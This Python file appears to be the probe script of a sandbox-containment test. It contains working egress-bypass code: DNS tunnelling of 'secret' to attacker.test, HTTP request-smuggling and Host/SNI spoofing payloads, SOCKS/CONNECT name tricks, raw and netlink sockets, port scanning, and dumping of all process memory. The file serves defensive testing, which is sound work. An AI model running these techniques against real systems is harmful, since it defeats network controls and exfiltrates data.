"""What a client or an attacker does by hand, in bytes. Runs inside the sandbox,
and without it as the control; the judge looks at what the lab's servers saw.

    probe.py NAME [ARGUMENT...]

An attempt goes on after each refusal: one that is contained is contained in all
of its forms.
"""

import asyncio
import ctypes
import errno
import os
import select
import socket
import ssl
import struct
import sys
import threading
import urllib.parse

WAIT_S = 4
SOCKS_PORT = 1080
ALLOWED, DENIED = "allowed.test", "denied.test"


def attempt(do, *arguments):
    """Does one thing and swallows what the network says to it."""
    try:
        return do(*arguments)
    except (OSError, ValueError, IndexError, EOFError, KeyError) as error:
        print(f"{getattr(do, '__name__', 'it')}: {error}", flush=True)
        return None


def together(calls):
    """All at once: each may have to wait for an answer that never comes."""
    threads = [threading.Thread(target=attempt, args=(call,)) for call in calls]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def dial(host, port):
    return socket.create_connection((host, port), WAIT_S)


def read_all(stream, limit=65536):
    """What comes until the other side is done, or silent."""
    data = b""
    stream.settimeout(WAIT_S)
    try:
        while len(data) < limit and (more := stream.recv(65536)):
            data += more
    except (TimeoutError, ssl.SSLError, ConnectionError):
        pass
    return data


def say(stream, text):
    with stream:
        stream.sendall(text if isinstance(text, bytes) else text.encode("latin-1"))
        answer = read_all(stream)
        print(answer[:60], flush=True)
        return answer


def proxy(kind):
    """Host and port of a proxy that the environment names, or that stands beside it."""
    named = os.environ["http_proxy" if kind == "http" else "all_proxy"]
    parts = urllib.parse.urlsplit(named)
    beside = kind == "socks" and not parts.scheme.startswith("socks")
    return parts.hostname, SOCKS_PORT if beside else parts.port


def by_connect(authority, host=None):
    """A tunnel by CONNECT, or an error."""
    stream = dial(*proxy("http"))
    if isinstance(authority, str):
        authority = authority.encode("latin-1")
    host = authority if host is None else host.encode()
    stream.sendall(b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
    answer = b""
    while b"\r\n\r\n" not in answer:
        more = stream.recv(1)
        if not more:
            break
        answer += more
    if b" 200 " not in answer[:16]:
        raise OSError(f"{authority}: {answer[:40]}")
    return stream


def by_socks(host, port):
    stream = dial(*proxy("socks"))
    stream.sendall(b"\x05\x01\x00")
    stream.recv(2)
    host = host if isinstance(host, bytes) else host.encode()
    stream.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + struct.pack("!H", port))
    answer = stream.recv(10)
    if answer[1:2] != b"\x00":
        raise OSError(f"{host}: {answer}")
    return stream


def ways(host, port):
    """A connection to the same target in every way there is."""
    yield lambda: dial(host, port)
    if proxied():
        yield lambda: by_connect(f"{host}:{port}")
        yield lambda: by_socks(host, port)


def proxied():
    return bool(os.environ.get("http_proxy"))


def unverified():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


GET = "GET / HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n"

# Clients.


def fetch_blocking(host, port):
    print(say(dial(host, int(port)), GET.format(host)).decode())


def fetch_non_blocking(host, port):
    address = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)[0]
    with socket.socket(*address[:3]) as stream:
        stream.setblocking(False)
        code = stream.connect_ex(address[4])
        if code not in (0, errno.EINPROGRESS):
            raise OSError(code, os.strerror(code))
        if not select.select([], [stream], [], 20)[1]:
            raise TimeoutError
        code = stream.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if code:
            raise OSError(code, os.strerror(code))
        stream.setblocking(True)
        print(say(stream, GET.format(host)).decode())


def fetch_asyncio(host, port):
    async def fetch():
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, int(port), ssl=True), 20)
        writer.write(GET.format(host).encode())
        print((await reader.read()).decode())
        writer.close()

    asyncio.run(fetch())


# What is sent although nobody agreed.


def udp(*targets):
    for target in targets:
        host, port = target.rsplit("/", 1)
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        attempt(lambda: socket.socket(family, socket.SOCK_DGRAM).sendto(b"canary", (host, int(port))))

        def connected():
            sender = socket.socket(family, socket.SOCK_DGRAM)
            sender.connect((host, int(port)))
            sender.send(b"canary")

        attempt(connected)


def raw_sockets():
    for family, protocol in ((socket.AF_INET, 1), (socket.AF_INET6, 58), (socket.AF_PACKET, 768)):
        if attempt(socket.socket, family, socket.SOCK_RAW, protocol):
            print("MADE raw", family)


def vsock():
    for cid in (2, 1):
        stream = attempt(socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM)
        if stream:
            print("MADE vsock")
            stream.settimeout(WAIT_S)
            attempt(stream.connect, (cid, 1024))


def io_uring():
    libc = ctypes.CDLL(None, use_errno=True)
    ring = libc.syscall(425, 8, ctypes.create_string_buffer(120))
    print("MADE ring" if ring >= 0 else os.strerror(ctypes.get_errno()))


def netlink():
    """Asks the kernel for another interface."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        attributes = struct.pack("HH", 11, 3) + b"canary\0\0" + struct.pack("HHHH", 16, 18, 9, 1) + b"veth".ljust(8, b"\0")
        body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + attributes
        link.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        code = struct.unpack_from("i", link.recv(4096), 16)[0]
        print("MADE link" if code == 0 else os.strerror(-code))


def unix(*paths):
    for path in paths:
        stream = socket.socket(socket.AF_UNIX)
        attempt(stream.connect, path.replace("@", "\0", 1) if path.startswith("@") else path)


def fast_open(address, port):
    sender = socket.socket()
    attempt(lambda: sender.sendto(GET.format(DENIED).encode(), 0x20000000, (address, int(port))))
    message = socket.socket()
    attempt(lambda: message.sendmsg([GET.format(DENIED).encode()], [], 0x20000000, (address, int(port))))


def other_protocols(address, port):
    """Streams that are not TCP but become it, or go beside it."""
    for kind, protocol in ((socket.SOCK_STREAM, 262), (socket.SOCK_STREAM, 132), (socket.SOCK_SEQPACKET, 132), (6, 33)):
        def go():
            with socket.socket(socket.AF_INET, kind, protocol) as stream:
                stream.settimeout(WAIT_S)
                stream.connect((address, int(port)))
                stream.sendall(GET.format(DENIED).encode())

        attempt(go)


def handed_over(address, port):
    """A socket that another process made, and one that was connected before."""
    near, far = socket.socketpair()
    if os.fork() == 0:
        stream = socket.socket()
        socket.send_fds(far, [b"x"], [stream.fileno()])
        os._exit(0)
    stream = socket.socket(fileno=socket.recv_fds(near, 1, 1)[1][0])
    attempt(lambda: stream.connect((address, int(port))))
    again = socket.create_server(("127.0.0.1", 0))
    reused = socket.create_connection(again.getsockname())
    libc = ctypes.CDLL(None, use_errno=True)
    # AF_UNSPEC dissolves the connection (connect(2)).
    libc.connect(reused.fileno(), ctypes.create_string_buffer(16), 16)
    attempt(lambda: reused.connect((address, int(port))))
    os.wait()


def mapped(address, port):
    """An IPv4 address in the form of an IPv6 one."""
    attempt(lambda: socket.socket(socket.AF_INET6).connect((f"::ffff:{address}", int(port))))


def dns_tunnel():
    """Data in questions, to the resolver given and to others."""
    question = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x03raw\x08attacker\x04test\0\0\x10\0\x01"
    names = ("secret.look.attacker.test", "secret.attacker.test.", "secret.allowed.test")
    calls = [lambda name=name: socket.getaddrinfo(name, 80) for name in names]
    with open("/etc/resolv.conf", encoding="utf-8") as file:
        servers = [line.split()[1] for line in file if line.startswith("nameserver")]
    for server in [*servers, "9.9.9.9", "8.8.8.8"]:
        calls.append(lambda server=server: socket.socket(type=socket.SOCK_DGRAM).sendto(question, (server, 53)))
        calls.append(lambda server=server: say(dial(server, 53), struct.pack("!H", len(question)) + question))
    together(calls)


# To an allowed host for another.


def sni(name):
    """The server name of another host, or none."""
    def hello(way):
        with unverified().wrap_socket(way(), server_hostname=name or None) as stream:
            say(stream, GET.format(name or DENIED))

    together([lambda way=way: hello(way) for way in ways(ALLOWED, 443)])


def host_in_tls():
    """The right server name, and the Host field of another host inside."""
    def ask(way):
        with unverified().wrap_socket(way(), server_hostname=ALLOWED) as stream:
            say(stream, GET.format(DENIED))

    together([lambda way=way: ask(way) for way in ways(ALLOWED, 443)])


def split_hello():
    """A client hello in many small records."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = unverified().wrap_bio(incoming, outgoing, server_hostname=DENIED)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    record = outgoing.read()
    body = record[5:]
    pieces = [body[at : at + 20] for at in range(0, len(body), 20)]
    split = b"".join(b"\x16\x03\x01" + struct.pack("!H", len(piece)) + piece for piece in pieces)
    together([lambda way=way: say(way(), split) for way in ways(ALLOWED, 443)])


def http_host():
    """The Host field of another host, in one connection and in the next request."""
    keep = GET.format(ALLOWED).replace("close", "keep-alive")

    def later(way):
        stream = way()
        stream.sendall(keep.encode())
        stream.recv(65536)
        say(stream, GET.format(DENIED))

    calls = []
    for way in ways(ALLOWED, 80):
        calls.append(lambda way=way: say(way(), GET.format(DENIED)))
        calls.append(lambda way=way: say(way(), keep + GET.format(DENIED)))
        calls.append(lambda way=way: later(way))
    together(calls)


def keep_alive():
    """Through the proxy: a second request for another host."""
    stream = dial(*proxy("http"))
    stream.sendall(f"GET http://{ALLOWED}/ HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode())
    stream.recv(65536)
    say(stream, f"GET http://{DENIED}/ HTTP/1.1\r\nHost: {DENIED}\r\nConnection: close\r\n\r\n")


def smuggle():
    """A request that two readers may end at different places."""
    inner = GET.format(DENIED)
    start = f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\n"
    forms = [
        f"{start}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
        f"{start}Transfer-Encoding: chunked\r\nContent-Length: {len(inner) + 5}\r\n\r\n0\r\n\r\n{inner}",
        f"{start}Transfer-Encoding : chunked\r\nContent-Length: {len(inner) + 5}\r\n\r\n0\r\n\r\n{inner}",
        f"{start}Transfer-Encoding: xchunked\r\n\r\n{inner}",
        f"{start}Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
        f"{start}Content-Length: +0\r\n\r\n{inner}",
        f"{start}X: y\r\n Content-Length: {len(inner)}\r\n\r\n{inner}",
        f"{start}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{inner}",
        f"GET / HTTP/1.1\nHost: {ALLOWED}\n\n{inner}",
        f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nX: a\0b\r\n\r\n{inner}",
        f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nX: a\rHost: {DENIED}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nHost: {DENIED}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {DENIED}\r\nHost: {ALLOWED}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost : {DENIED}\r\nHost: {ALLOWED}\r\n\r\n",
        f"GET / HTTP/1.1\r\n Host: {DENIED}\r\nHost: {ALLOWED}\r\n\r\n",
        f"GET http://{DENIED}/ HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n",
        f"GET / HTTP/0.9\r\nHost: {DENIED}\r\n\r\n",
        f"GET /\r\n\r\n{inner}",
        f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nX: {'a' * 100_000}\r\n\r\n{inner}",
        f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n{inner}",
        f"GET / HTTP/1.1\r\nHost: {ALLOWED}@{DENIED}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {ALLOWED}, {DENIED}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost:\r\n\t{DENIED}\r\n\r\n",
    ]
    calls = [lambda form=form: say(dial(ALLOWED, 80), form) for form in forms]
    if proxied():
        whole = [form.replace(" / HTTP/1.1", f" http://{ALLOWED}/ HTTP/1.1", 1) for form in forms]
        calls += [lambda form=form: say(dial(*proxy("http")), form) for form in whole]
    together(calls)


def header_in_path():
    targets = ("/%0d%0aHost:%20" + DENIED, "/ HTTP/1.1\r\nHost: " + DENIED + "\r\nX:", "/\rHost: " + DENIED)
    end = f" HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n"
    calls = [lambda target=target: say(dial(ALLOWED, 80), f"GET {target}{end}") for target in targets]
    if proxied():
        calls += [lambda to=to: say(dial(*proxy("http")), f"GET http://{ALLOWED}{to}{end}") for to in targets]
    together(calls)


def http2():
    """HTTP/2 without TLS: who reads lines sees no Host in it."""
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)
    together([lambda way=way: say(way(), preface) for way in ways(ALLOWED, 9418)])


# Through the proxy to what it must not reach.


def connect_to(*authorities):
    together([lambda to=to: say(by_connect(to), GET.format(DENIED)) for to in authorities])


def odd_names():
    """Names that two readers may end at different places."""
    odd = ["%00", "\0", " ", "\t", "\r", "\n", "#", "/", "\\", "@", ";", "\xe9", "?", "%"]
    plain = GET.format(DENIED)
    calls = [lambda: say(by_connect("a" * 300 + ":80"), plain)]
    for letter in odd:
        name = f"{DENIED}{letter}.{ALLOWED}"
        turned = f"{ALLOWED}{letter}@{DENIED}".encode("latin-1")
        calls.append(lambda name=name: say(by_connect(f"{name}:80"), plain))
        calls.append(lambda name=name: say(by_connect(f"{name}:80", f"{ALLOWED}:80"), plain))
        calls.append(lambda name=name: say(by_socks(name.encode("latin-1"), 80), plain))
        calls.append(lambda turned=turned: say(by_socks(turned, 80), plain))
    together(calls)


def socks_nul():
    attempt(lambda: say(by_socks(f"{DENIED}\0.{ALLOWED}".encode(), 80), GET.format(DENIED)))


def socks_other():
    """Commands of SOCKS other than CONNECT, and older versions."""
    host, port = proxy("socks")
    for request in (b"\x05\x02\x00\x01" + bytes(6), b"\x05\x03\x00\x01" + bytes(6)):
        def ask():
            stream = dial(host, port)
            stream.sendall(b"\x05\x01\x00")
            stream.recv(2)
            answer = say(stream, request)
            if answer[1:2] == b"\x00":
                print("MADE socks", request[1])

        attempt(ask)


def forwarder():
    """A relay inside that hands requests on to the proxy."""
    relay = socket.create_server(("127.0.0.1", 0))

    def serve():
        while True:
            near, _ = relay.accept()
            far = dial(*proxy("http"))
            far.sendall(near.recv(65536))
            near.sendall(far.recv(65536))
            far.sendall(near.recv(65536))
            near.close()

    threading.Thread(target=serve, daemon=True).start()
    for _ in range(3):
        def ask():
            stream = dial(*relay.getsockname())
            stream.sendall(f"CONNECT {DENIED}:80 HTTP/1.1\r\nHost: {DENIED}:80\r\n\r\n".encode())
            stream.recv(65536)
            say(stream, GET.format(DENIED))

        attempt(ask)


def dump_memory(path):
    """All memory that can be read, of this process and of every other."""
    with open(path, "wb") as out:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            attempt(dump_process, pid, out)
    print("DUMPED")


def dump_process(pid, out):
    with open(f"/proc/{pid}/maps", encoding="utf-8") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            # Files are looked at as files; what the kernel maps is nobody's.
            if line.split()[1].startswith("rw") and last - first < 1 << 26:
                memory.seek(first)
                out.write(memory.read(last - first))


def open_ports():
    """What listens where the proxies stand, besides what is expected."""
    host = proxy("http")[0]
    known = {proxy("http")[1], proxy("socks")[1], 53}
    for port in range(1, 65536):
        with socket.socket() as stream:
            stream.settimeout(WAIT_S)
            if stream.connect_ex((host, port)) == 0 and port not in known:
                # A socket may reach itself where every address is its own.
                if stream.getsockname() != stream.getpeername():
                    print("OPEN", port)
    print("LOOKED")


def every_address(name, port):
    for address in sorted({found[4][0] for found in socket.getaddrinfo(name, port, type=socket.SOCK_STREAM)}):
        attempt(lambda: say(dial(address, int(port)), GET.format(name)))


if __name__ == "__main__":
    globals()[sys.argv[1].replace("-", "_")](*sys.argv[2:])
